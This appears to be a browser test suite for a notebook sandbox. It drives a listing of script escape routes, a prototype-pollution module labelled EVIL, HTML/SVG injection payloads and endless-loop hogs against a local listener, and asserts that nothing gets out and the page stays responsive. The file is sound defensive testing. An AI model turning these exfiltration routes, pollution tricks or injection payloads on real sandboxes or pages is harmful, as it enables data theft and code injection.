/** The sandbox that cells run in: an attack notebook, with a server that must not hear of it, and a page that must live on. */
import { assert, assertEquals, assertMatch } from "deno-std/assert/mod.js";
import { createSocket } from "node:dgram";
import type { Page } from "playwright-core";
import { Imports } from "../../../lab/notebook/import_graph.ts";
import { cdn, withModules } from "../notebook/module_server.ts";
import { browserTest, closeBrowser } from "./browser.ts";
import {
  cell,
  gpuWorker,
  idle,
  notebookOf,
  openFile,
  outputOf,
  runAll,
  withNotebook,
} from "./notebook_page.ts";

/** Hears every HTTP request and every datagram. */
async function withListener(body: (address: string, datagrams: number, heard: string[]) => Promise<void>) {
  const heard: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    const { pathname, search } = new URL(request.url);
    heard.push(`${request.method} ${pathname}${search}`);
    return new Response("1", {
      headers: { "access-control-allow-origin": "*", "content-type": "text/javascript" },
    });
  });
  const socket = createSocket("udp4");
  const port = await new Promise<number>((resolve) =>
    socket.bind(0, "127.0.0.1", () => resolve(socket.address().port))
  );
  socket.on("message", () => heard.push("a datagram"));
  try {
    await body(`http://127.0.0.1:${server.addr.port}`, port, heard);
  } finally {
    socket.close();
    await server.shutdown();
  }
}

/** Every way out that scripts have, by name, each as the body of an async function. `E` is where the listener is. */
function routes(E: string, datagrams: number): Record<string, string> {
  const worker = (code: string) =>
    `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])));
     await new Promise((resolve, reject) => { w.onmessage = resolve; w.onerror = reject; setTimeout(reject, 400); })`;
  const element = (markup: string) =>
    `const d = globalThis.document; const t = d.createElement("div"); t.innerHTML = ${
      JSON.stringify(markup)
    }; d.body.append(t)`;
  return {
    fetch: `await fetch("${E}/fetch")`,
    "fetch without cors": `await fetch("${E}/fetch-opaque", { mode: "no-cors" })`,
    "fetch keepalive": `await fetch("${E}/fetch-keepalive", { keepalive: true, method: "POST", body: "x" })`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "${E}/xhr", false); x.send()`,
    WebSocket: `new WebSocket("${
      E.replace("http", "ws")
    }/socket"); await new Promise((r) => setTimeout(r, 200))`,
    EventSource: `new EventSource("${E}/events"); await new Promise((r) => setTimeout(r, 200))`,
    WebTransport: `await new WebTransport("${E.replace("http", "https")}/transport").ready`,
    beacon: `navigator.sendBeacon("${E}/beacon", "x")`,
    importScripts: `importScripts("${E}/import-scripts")`,
    "dynamic import": `await import("${E}/import")`,
    "import by eval": `await (0, eval)('import("${E}/import-eval")')`,
    "import by Function": `await Function('return import("${E}/import-function")')()`,
    "import by AsyncFunction": `await (async () => {}).constructor('await import("${E}/import-async")')()`,
    "import by a timer":
      `setTimeout('import("${E}/import-timer")'); await new Promise((r) => setTimeout(r, 100))`,
    "import of a blob":
      `await import(URL.createObjectURL(new Blob(['await fetch("${E}/blob")'], { type: "text/javascript" })))`,
    "import of a data address": `await import('data:text/javascript,fetch("${E}/data")')`,
    "worker of a blob": worker(`fetch("${E}/worker").then(() => postMessage(1))`),
    "worker that imports scripts": worker(`importScripts("${E}/worker-import")`),
    "worker by address": `new Worker("${E}/worker-address"); await new Promise((r) => setTimeout(r, 200))`,
    "shared worker": `new SharedWorker("${E}/shared"); await new Promise((r) => setTimeout(r, 200))`,
    "service worker": `await navigator.serviceWorker.register("${E}/service")`,
    font: `const f = new FontFace("x", "url(${E}/font)"); await f.load()`,
    wasm: `await WebAssembly.compileStreaming(fetch("${E}/wasm"))`,
    WebRTC: `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${datagrams}" }] });
      c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); await new Promise((r) => setTimeout(r, 400))`,
    "window.open": `open("${E}/open")`,
    "its own address": `location.href = "${E}/navigate?secret"; await new Promise((r) => setTimeout(r, 200))`,
    "the top's address": `top.location.href = "${E}/top"`,
    "the parent's page": `parent.document.body.textContent = "taken"`,
    picture: element(`<img src="${E}/image">`),
    "style sheet": element(
      `<link rel="stylesheet" href="${E}/style"><style>@import "${E}/import-css"; body { background: url(${E}/css) }</style>`,
    ),
    prefetch: element(
      `<link rel="prefetch" href="${E}/prefetch"><link rel="dns-prefetch" href="${E}"><link rel="preconnect" href="${E}">`,
    ),
    "a frame": element(
      `<iframe src="${E}/frame"></iframe><iframe src="data:text/html,<img src=${E}/data-frame>"></iframe>`,
    ),
    "svg picture": element(`<svg><image href="${E}/svg" /></svg>`),
    "form and ping":
      `const d = document; const f = d.createElement("form"); f.action = "${E}/form"; d.body.append(f); f.submit()`,
    "meta refresh": element(`<meta http-equiv="refresh" content="0;url=${E}/refresh">`),
    "the lab's own fetch": `await lab.fetch("${E}/lab")`,
    "a model from there": `await lab.model("${E}/model")`,
    "a file of the page's server": `await lab.read("../index.html", { as: "text" })`,
    localStorage: `localStorage.setItem("a", "b")`,
    IndexedDB:
      `await new Promise((resolve, reject) => { const q = indexedDB.open("precis"); q.onsuccess = resolve; q.onerror = reject; })`,
    "private files": `await navigator.storage.getDirectory()`,
    caches: `await caches.open("x")`,
    cookies: `if (document.cookie === undefined) throw 0`,
    "a channel to other tabs":
      `const c = new BroadcastChannel("precis-notebooks"); c.postMessage({ id: "shipped-welcome", revision: 99 })`,
    "the GPU itself": `if (!await navigator.gpu.requestAdapter()) throw 0`,
    notifications: `if (await Notification.requestPermission() !== "granted") throw 0`,
  };
}

/** Source that takes every route in turn and has, at its end, `tried` and `through`: their names, and those that were not barred. */
function tryAll(routes: Record<string, string>): { count: number; code: string } {
  const tries = Object.entries(routes).map(([name, body]) =>
    `await attempt(${JSON.stringify(name)}, async () => { ${body} });`
  );
  return {
    count: tries.length,
    code: `const through = [], tried = [];
async function attempt(name, work) {
  tried.push(name);
  try {
    await Promise.race([work(), new Promise((_, reject) => setTimeout(() => reject("late"), 1500))]);
    through.push(name);
  } catch {}
}
${tries.join("\n")}`,
  };
}

browserTest("an attack notebook reaches nobody by any route, and says so route by route", async () => {
  await withListener(async (address, datagrams, heard) => {
    await withNotebook(async ({ page, open }) => {
      await open();
      const { count, code } = tryAll(routes(address, datagrams));
      await openFile(
        page,
        notebookOf(
          "# Read me",
          `import { lab } from "precis";
${code}
console.log(tried.length + " tried; through: " + through.join(", "));`,
        ),
      );
      await runAll(page);
      assertEquals(await outputOf(page, 2), `${count} tried; through:`);
      // What was started may still be on its way.
      await page.waitForTimeout(500);
      assertEquals(heard, []);
      assertEquals(await page.locator("h1").first().innerText(), "Read me");
      assert(page.url().startsWith("http://localhost:"));
    });
  });
});

/** What a module does to what the kernel links with, before another is imported. */
const pollution = `const EVIL = 'yield; fetch("ADDRESS/polluted"); import("ADDRESS/polluted-import")';
const get = Map.prototype.get;
Map.prototype.get = function (key) {
  const found = get.call(this, key);
  return found?.module ? { ...found, module: { ...found.module, code: EVIL }, begun: undefined, ran: undefined } : found;
};
for (const name of ["error", "code", "specifiers"]) {
  Object.defineProperty(Object.prototype, name, { get: () => EVIL, set() {}, configurable: true });
}
Array.prototype.find = () => ({ specifier: "x", address: "ADDRESS/found" });
export default 1;`;

browserTest(
  "a module of the lock gets out by no route either, and makes nothing of the linking",
  async () => {
    await withListener(async (address, datagrams, heard) => {
      const { count, code } = tryAll(routes(address, datagrams));
      const evil = `export const lab = {};
${code}
export { through, tried };
export const later = () => import("${address}/later-" + tried.length);`;
      const answers = {
        [cdn("evil@1.0.0")]: evil,
        [cdn("pollution@1.0.0")]: pollution.replaceAll("ADDRESS", address),
        [cdn("good@1.0.0")]: "export default 2;",
      };
      await withModules(answers, async (server) => {
        const imports = new Imports(server.source, { mayFetch: () => true });
        const notebook = notebookOf(
          "# Read me",
          `import { through, tried } from "npm:evil@1.0.0"; console.log(tried.length + " tried; through: " + through.join(", "));`,
          `import { later } from "npm:evil@1.0.0"; await later().catch(() => "no")`,
          `import "npm:pollution@1.0.0"; 1`,
          `await import("npm:good@1.0.0")`,
        );
        for (const name of ["evil", "pollution", "good"]) {
          const specifier = `npm:${name}@1.0.0`;
          notebook.metadata.lab.imports[specifier] = (await imports.lock(specifier)).locked;
        }
        await withNotebook(async ({ page, context, open }) => {
          await context.route("https://cdn.jsdelivr.net/**", async (route) => {
            const answer = await server.source.fetch(route.request().url(), AbortSignal.timeout(5000));
            const headers = Object.fromEntries(answer.headers);
            await route.fulfill({ status: answer.status, headers, body: await answer.text() });
          });
          await open();
          server.heard.length = 0;
          await openFile(page, notebook);
          await runAll(page);
          assertEquals(await outputOf(page, 2), `${count} tried; through:`);
          assertEquals(await outputOf(page, 3), '"no"');
          await page.waitForTimeout(500);
          assertEquals(heard, []);
          assertEquals(
            [...new Set(server.heard)].toSorted(),
            server.heard.filter((one) => Object.hasOwn(answers, one)).toSorted(),
          );
          assert(page.url().startsWith("http://localhost:"));
          await assertAlive(page);
        });
      });
    });
  },
);

for (const bare of [false, true]) {
  const host = bare ? "a host that sends no headers" : "the lab's own server";
  browserTest(
    `the walls hold by themselves on ${host}: the frame and a worker in it, without the kernel's seal`,
    () => attackWalls(bare),
  );
}

async function attackWalls(bare: boolean): Promise<void> {
  await withListener(async (address, datagrams, heard) => {
    await withNotebook(async ({ page, open }) => {
      await open();
      await openFile(page, notebookOf("# Start", "1"));
      await runAll(page);
      // The listener hears: the page itself may fetch what models it likes.
      await page.evaluate((address) => fetch(`${address}/heard`, { mode: "no-cors" }), address);
      assertEquals(heard.splice(0), ["GET /heard"]);
      const frame = page.frames().find((one) => one.url().endsWith("/sandbox.html"))!;
      const attacks = routes(address, datagrams);
      const inWorker = Object.values(attacks).map((body) =>
        `try { await Promise.race([(async () => { ${body} })(), new Promise((_, no) => setTimeout(no, 800))]) } catch {}`
      ).join("\n");
      await frame.evaluate((source) =>
        new Promise((resolve) => {
          const text = `const lab = {}; (async () => {${source}})().then(() => postMessage(1))`;
          const worker = new Worker(URL.createObjectURL(new Blob([text])));
          worker.onmessage = resolve;
        }), inWorker);
      assertEquals(heard, []);
      // Those that would take the frame itself elsewhere come last: stopped, they leave the browser's own page of errors.
      const last = ["the top's address", "form and ping", "meta refresh", "its own address"];
      const names = Object.keys(attacks).filter((name) => !last.includes(name) && name !== "WebRTC");
      for (const name of [...names, ...last]) {
        const done = frame.evaluate(
          `Promise.race([(async () => { const lab = {}; ${attacks[name]} })().catch(() => {}),
          new Promise((yes) => setTimeout(yes, 600))])`,
        ).catch(() => {});
        await Promise.race([done, page.waitForTimeout(1500)]);
      }
      await page.waitForTimeout(500);
      assertEquals(heard, []);
      assertEquals(await page.locator("h1").first().innerText(), "Start");
      // The attacks complain, each of its failure.
    }, { faults: /./, bare });
  });
}

browserTest("the GPU worker has the page's policy without any header", async () => {
  await withNotebook(async ({ page, open }) => {
    await open();
    await openFile(
      page,
      notebookOf("# Start", `import { lab } from "precis"; (await lab.encode("a b")).length`),
    );
    await runAll(page);
    assertEquals(await outputOf(page, 2), "2");
    const made = await gpuWorker(page).evaluate(async () => {
      // While a debugger's question is under way, code may be made from texts.
      await new Promise((resolve) => setTimeout(resolve));
      const made: string[] = [];
      const attempts: Record<string, () => unknown> = {
        eval: () => (0, eval)("1"),
        Function: () => new Function("return 1")(),
        "a data address": () => import(/* @vite-ignore */ String("data:text/javascript,export default 1")),
        "another origin": () =>
          import(/* @vite-ignore */ location.origin.replace("localhost", "127.0.0.1") + "/x.js"),
      };
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          made.push(name);
        } catch {
          // As it should be.
        }
      }
      return made;
    });
    assertEquals(made, []);
  }, { bare: true });
});

/** Outputs that are markup: what a reader sees before anything has run. */
browserTest("stored outputs and texts of a stranger run nothing and load nothing", async () => {
  await withListener(async (address, _, heard) => {
    await withNotebook(async ({ page, open }) => {
      await open();
      const markup = `<b>bold</b><img src="${address}/img" onerror="top.taken=1"><script>top.taken=1</script>
        <svg onload="top.taken=1"><image href="${address}/svg"/><foreignObject><img src="${address}/foreign"></foreignObject><use href="${address}/use#a"/></svg>
        <style>@import "${address}/css"; * { background: url(${address}/bg) }</style><link rel="stylesheet" href="${address}/link">
        <iframe src="${address}/frame"></iframe><object data="${address}/object"></object><embed src="${address}/embed">
        <video src="${address}/video" poster="${address}/poster"></video><audio src="${address}/audio" autoplay></audio>
        <form action="${address}/form"><input type="image" src="${address}/input"></form><meta http-equiv="refresh" content="0;url=${address}/meta">
        <div style="background:url(${address}/style)" class="notice" id="x">styled</div><a href="javascript:top.taken=1" ping="${address}/ping">link</a>
        <picture><source srcset="${address}/srcset"></picture><math href="${address}/math"><mtext></mtext></math><base href="${address}/">`;
      const notebook = notebookOf(`# Title\n\n![x](${address}/markdown)\n\n${markup}`, "1");
      Object.assign(notebook.cells[1], {
        execution_count: 1,
        outputs: ["text/html", "image/svg+xml", "text/markdown"].map((mime) => ({
          output_type: "display_data",
          metadata: {},
          data: { [mime]: mime === "image/svg+xml" ? `<svg>${markup}</svg>` : markup },
        })),
      });
      await openFile(page, notebook, false);
      await page.getByText("Somebody else wrote this notebook").waitFor();
      await page.locator("main").getByText("bold").first().waitFor();
      await page.locator("main a", { hasText: "link" }).first().click();
      await page.waitForTimeout(500);
      assertEquals(heard, []);
      assertEquals(await page.evaluate(() => "taken" in globalThis), false);
      for (const tag of ["script", "iframe:not([sandbox])", "form.x", "style", "object", "video", "#x"]) {
        assertEquals(await page.locator(`main .output ${tag}, main .prose ${tag}`).count(), 0, tag);
      }
      // Nothing runs before the card is answered.
      await page.getByRole("button", { name: "Run all", exact: true }).click();
      assertEquals(await page.locator("iframe").count(), 0);
    });
  });
});

/** What a page that is still alive does: it answers a click, within a second. */
async function assertAlive(page: Page) {
  const start = performance.now();
  await page.getByRole("button", { name: /Keys$/ }).click();
  await page.locator("key-sheet dialog").waitFor();
  await page.keyboard.press("Escape");
  await page.locator("key-sheet dialog").waitFor({ state: "hidden" });
  const took = performance.now() - start;
  assert(took < 5000, `the page took ${took} ms to answer`);
}

const hogs: [name: string, source: string, said: RegExp][] = [
  ["an endless loop", "for (;;);", /Interrupted/],
  ["a loop of promises", "for (;;) await null;", /Interrupted/],
  [
    "a loop of timers",
    "const go = () => { setTimeout(go); setTimeout(go); }; go(); await new Promise(() => {});",
    /Interrupted/,
  ],
  ["a flood of prints", "for (;;) { console.log('x'.repeat(1000)); await null; }", /Interrupted/],
  [
    "a loop in WebAssembly",
    `const code = Uint8Array.from([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11]);
new WebAssembly.Instance(new WebAssembly.Module(code)).exports.f();`,
    /Interrupted/,
  ],
];

browserTest("endless work of every kind is interrupted, and the page answers meanwhile", async () => {
  await withNotebook(async ({ page, open }) => {
    await open();
    for (const [name, source, said] of hogs) {
      await openFile(page, notebookOf(`# ${name}`, source, "'and on'"));
      await page.getByRole("button", { name: "Run all", exact: true }).click();
      await cell(page, 2).locator("section.running").waitFor();
      await page.waitForTimeout(700);
      await assertAlive(page);
      await page.getByRole("button", { name: "Interrupt", exact: true }).click();
      await idle(page);
      assertMatch(await page.locator(".notices").innerText(), said, name);
      assertMatch(await cell(page, 2).locator("section").getAttribute("class") ?? "", /failed/, name);
      await cell(page, 3).locator("section").focus();
      await page.keyboard.press("ControlOrMeta+Enter");
      await cell(page, 3).locator("section.fresh").waitFor();
      assertMatch(await outputOf(page, 3), /and on/, name);
    }
  });
});

browserTest("giant outputs and floods of calls leave the page as it is", async () => {
  await withNotebook(async ({ page, open }) => {
    await open();
    await openFile(
      page,
      notebookOf(
        "# Giants",
        `console.log("y".repeat(1 << 28)); for (let i = 0; i < 5000; i++) console.log(i); "z".repeat(1 << 27)`,
        `import { lab } from "precis"; for (let i = 0; i < 300; i++) await lab.show("row " + i); await lab.table(Array.from({ length: 20000 }, (_, a) => ({ a })));`,
      ),
    );
    await runAll(page);
    for (const position of [2, 3]) assertMatch((await outputOf(page, position)).slice(-300), /Left out: /);
    const kept = await page.evaluate(() => document.querySelector("main")!.textContent!.length);
    assert(kept < 200_000, `${kept} characters on the page`);
    await assertAlive(page);

    await openFile(
      page,
      notebookOf(
        "# Flood",
        `import { lab } from "precis"; for (let i = 0; i < 1e6; i++) lab.posts("test"); await new Promise(() => {});`,
      ),
    );
    await page.getByRole("button", { name: "Run all", exact: true }).click();
    await cell(page, 2).locator("section.running").waitFor();
    await page.waitForTimeout(1000);
    await assertAlive(page);
    if (await page.getByRole("button", { name: "Interrupt", exact: true }).isVisible()) {
      await page.getByRole("button", { name: "Interrupt", exact: true }).click();
    }
    await idle(page);

    // What was flooded serves the next notebook.
    await openFile(
      page,
      notebookOf("# After", `import { lab } from "precis"; (await lab.posts("test", { count: 2 })).length`),
    );
    await runAll(page);
    assertEquals(await outputOf(page, 2), "2");
  });
});

browserTest("a stranger's GPU time is metered, and what it was not granted is refused by name", async () => {
  await withNotebook(async ({ page, open }) => {
    await open();
    const notebook = notebookOf(
      "# Hog",
      `import { lab } from "precis";
const a = await lab.tensor(new Float32Array(512 * 512), [512, 512]);
for (;;) { const b = await lab.ops.matmul(a, a); await b.free(); }`,
      `import { lab } from "precis"; await lab.fetch("https://example.org/")`,
    );
    await openFile(page, notebook, false);
    await page.getByLabel(/at most/).fill("1");
    await page.getByLabel(/at most/).press("Tab");
    await page.getByRole("button", { name: "Let it run in the sandbox" }).click();
    await runAll(page);
    assertMatch(await outputOf(page, 2), /has used its 1 s of GPU time/);
    await cell(page, 3).locator("section").focus();
    await page.keyboard.press("ControlOrMeta+Enter");
    await cell(page, 3).locator("section.failed").waitFor();
    assertMatch(await outputOf(page, 3), /may not fetch from example\.org/);
  });
});

browserTest("the browser closes", closeBrowser);
